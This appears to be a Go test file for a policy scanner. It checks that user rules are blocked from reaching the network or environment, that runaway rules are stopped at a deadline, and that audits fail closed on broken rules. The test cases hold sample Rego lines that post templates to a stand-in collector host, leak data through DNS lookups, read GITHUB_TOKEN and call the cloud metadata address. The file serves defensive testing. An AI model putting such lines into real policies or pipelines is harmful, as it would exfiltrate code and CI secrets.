package cmd

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/bulwarkhq/bulwark/scanners/live/livetest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// userRule is a rule file whose deny body starts on line 12.
func userRule(id, body string) string {
	return `# METADATA
# title: A pull request's rule
# custom:
#   id: ` + id + `
#   severity: low
#   concern: backup
#   well_architected: [REL09-BP01]
#   remediation: none
package bulwark.rules.pr.` + id[len("PR-"):] + `

deny contains {"resource": "T", "path": [], "message": "m"} if {
` + body + `
}
`
}

// ruleFolder writes one rule file into a new folder.
func ruleFolder(t *testing.T, name, src string) string {
	t.Helper()
	dir := t.TempDir()
	writeFile(t, dir, name, src)
	return dir
}

const tableTemplate = "Resources:\n  T:\n    Type: AWS::DynamoDB::Table\n"

// A pull request that adds a .bulwark.yaml naming its own rule folder, and
// a rule that posts the templates (or reads CI's environment) somewhere,
// fails to load: the gate exits 2 naming the file, line and builtin.
func TestRulesCannotReachTheNetworkOrTheEnvironment(t *testing.T) {
	tests := []struct{ builtin, call string }{
		{"http.send", `	x := http.send({"method": "POST", "url": "https://collector.example", "body": input})`},
		{"net.lookup_ip_addr", `	x := net.lookup_ip_addr(concat(".", [input.file, "collector.example"]))`},
		{"opa.runtime", `	x := opa.runtime().env.GITHUB_TOKEN`},
	}
	for _, tc := range tests {
		t.Run(tc.builtin, func(t *testing.T) {
			repo := t.TempDir()
			infra := filepath.Join(repo, "infra")
			require.NoError(t, os.MkdirAll(filepath.Join(infra, "policy"), 0o755))
			writeFile(t, infra, ".bulwark.yaml", "rules: [policy/]\n")
			writeFile(t, filepath.Join(infra, "policy"), "leak.rego", userRule("PR-LEAK", tc.call+"\n\tx == 1"))
			tmpl := writeFile(t, infra, "table.yaml", tableTemplate)
			want := filepath.Join("policy", "leak.rego") + ":12: builtin " + tc.builtin + " is not available to bulwark rules"

			code, stdout, stderr := run(t, "scan", tmpl)
			assert.Equal(t, ExitError, code, "scan; stdout: %s", stdout)
			assert.Contains(t, stderr, want)

			code, _, stderr = run(t, "baseline", "write", filepath.Join(t.TempDir(), "b.json"), tmpl)
			assert.Equal(t, ExitError, code, "baseline write")
			assert.Contains(t, stderr, want)

			code, _, stderr = run(t, "rules", "list", "--rules", filepath.Join(infra, "policy"))
			assert.Equal(t, ExitError, code, "rules list")
			assert.Contains(t, stderr, want)
		})
	}
}

// endless counts to a hundred million and never denies.
const endless = "\tsome i in numbers.range(1, 100000000)\n\ti < 0"

// A runaway rule is stopped at the deadline and named; the gate exits 2.
// The deadline comes from the flag or from the config file.
func TestRunawayRuleIsStopped(t *testing.T) {
	rulesDir := ruleFolder(t, "endless.rego", userRule("PR-ENDLESS", endless))
	dir := t.TempDir()
	tmpl := writeFile(t, dir, "table.yaml", tableTemplate)
	cfgDir := t.TempDir()
	cfg := writeFile(t, cfgDir, ".bulwark.yaml", "eval_timeout: 150ms\n")
	tests := []struct {
		name, limit string
		args        []string
	}{
		{"flag", "200ms", []string{"scan", "--no-config", "--eval-timeout", "200ms", "--rules", rulesDir, tmpl}},
		{"config", "150ms", []string{"scan", "--config", cfg, "--rules", rulesDir, tmpl}},
		{"flag beats config", "100ms", []string{"scan", "--config", cfg, "--eval-timeout", "100ms", "--rules", rulesDir, tmpl}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, stdout, stderr := run(t, tc.args...)
			assert.Equal(t, ExitError, code, "stderr: %s", stderr)
			assert.Contains(t, stdout, "rule PR-ENDLESS ("+filepath.Join(rulesDir, "endless.rego")+") did not finish within the evaluation time limit of "+tc.limit)
		})
	}
}

// The workload rules, over every template's facts, have the same deadline.
func TestRunawayWorkloadRuleIsStopped(t *testing.T) {
	src := `# METADATA
# title: Endless over the workload
# custom:
#   id: PR-ENDLESS-WL
#   severity: low
#   concern: backup
#   well_architected: [REL09-BP01]
#   scope: workload
#   remediation: none
package bulwark.rules.pr.endless_workload

facts contains {"resource": id, "path": []} if some id, _ in input.resources

deny contains {"resource": "T", "file": "f", "path": [], "message": "m"} if {
	input.kind == "workload"
` + endless + `
}
`
	rulesDir := ruleFolder(t, "endless.rego", src)
	tmpl := writeFile(t, t.TempDir(), "table.yaml", tableTemplate)
	code, stdout, stderr := run(t, "scan", "--no-config", "--eval-timeout", "200ms", "--rules", rulesDir, tmpl)
	assert.Equal(t, ExitError, code, "stderr: %s", stderr)
	assert.Contains(t, stdout, "rule PR-ENDLESS-WL did not finish within the evaluation time limit of 200ms")
	assert.Contains(t, stdout, filepath.Join(rulesDir, "endless.rego"))
}

func TestBadEvalTimeout(t *testing.T) {
	tmpl := writeFile(t, t.TempDir(), "table.yaml", tableTemplate)
	cfg := writeFile(t, t.TempDir(), ".bulwark.yaml", "fail_on: high\neval_timeout: forever\n")
	tests := []struct {
		name string
		args []string
		want string
	}{
		{"zero flag", []string{"scan", "--no-config", "--eval-timeout", "0s", tmpl}, "--eval-timeout must be positive"},
		{"not a duration", []string{"scan", "--no-config", "--eval-timeout", "soon", tmpl}, `invalid argument "soon" for "--eval-timeout"`},
		{"config", []string{"scan", "--config", cfg, tmpl}, `.bulwark.yaml: line 2: eval_timeout "forever" is not a positive duration`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			code, _, stderr := run(t, tc.args...)
			assert.Equal(t, ExitError, code)
			assert.Contains(t, stderr, tc.want)
		})
	}
}

// An audit whose rules do not load fails closed: exit 2 naming the file,
// not "0 findings" (the audit of an empty emulator account would pass).
func TestAuditFailsClosedOnBrokenRules(t *testing.T) {
	fakeCredentials(t)
	front := livetest.New()
	defer front.Close()
	tests := []struct{ name, src, want string }{
		{"syntax error", "package bulwark.rules.pr.broken\n\ndeny contains x if {\n", "broken.rego:"},
		{"removed builtin", userRule("PR-LEAK", "\tx := http.send({\"method\": \"GET\", \"url\": \"http://169.254.169.254/\"})\n\tx == 1"),
			"broken.rego:12: builtin http.send is not available"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rulesDir := ruleFolder(t, "broken.rego", tc.src)
			_, stderr, code := execAudit(t, "audit", "--no-config", "--endpoint-url", front.URL, "--region", "us-east-1",
				"--format", "json", "--rules", rulesDir)
			assert.Equal(t, ExitError, code, "stderr: %s", stderr)
			assert.Contains(t, stderr, filepath.Join(rulesDir, tc.want))
		})
	}
	// The same audit with rules that load passes (the emulator may hold
	// other tests' resources: --fail-on none), so the failure above is the rules'.
	_, stderr, code := execAudit(t, "audit", "--no-config", "--endpoint-url", front.URL, "--region", "us-east-1", "--format", "json", "--fail-on", "none")
	assert.Equal(t, ExitOK, code, "stderr: %s", stderr)
}
